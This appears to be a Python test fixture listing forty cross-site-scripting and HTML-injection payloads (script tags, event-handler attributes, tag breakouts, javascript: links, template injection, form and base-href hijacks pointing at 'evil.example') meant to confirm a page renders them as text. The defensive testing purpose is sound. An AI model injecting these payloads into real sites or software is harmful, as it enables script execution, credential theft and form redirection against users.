"""Forty pieces of markup that must stay text wherever they are shown."""

from __future__ import annotations

HOST = "evil.example"
RUN = "window.ran=1"
"""What a script of theirs would do; the page is asked afterwards whether it was done."""

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//{HOST}/x.js></script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror={RUN}>",
    f"<img src=//{HOST}/a.png>",
    f"<img srcset=//{HOST}/a.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href=//{HOST}/a.svg></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<iframe src=//{HOST}/></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=//{HOST}/x.swf></object>",
    f"<embed src=//{HOST}/x.swf>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<style>@import '//{HOST}/x.css';</style>",
    f'<div style="background:url(//{HOST}/a.png)">x</div>',
    f"<base href=//{HOST}/>",
    f'<meta http-equiv="refresh" content="0;url=//{HOST}/">',
    f"<form action=//{HOST}/><input name=csrf><button>ok</button></form>",
    f"</form><form action=//{HOST}/><button>ok</button>",
    f"<button formaction=//{HOST}/>ok</button>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='//{HOST}/' ping='//{HOST}/p'>x</a>",
    f"![x](http://{HOST}/x.png) [y](javascript:{RUN})",
    f"' onmouseover='{RUN}' x='",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
    f"\u202e&lt;script&gt;{RUN}&#60;/script&#62;&#x3c;img src=x onerror={RUN}&#x3e;",
)
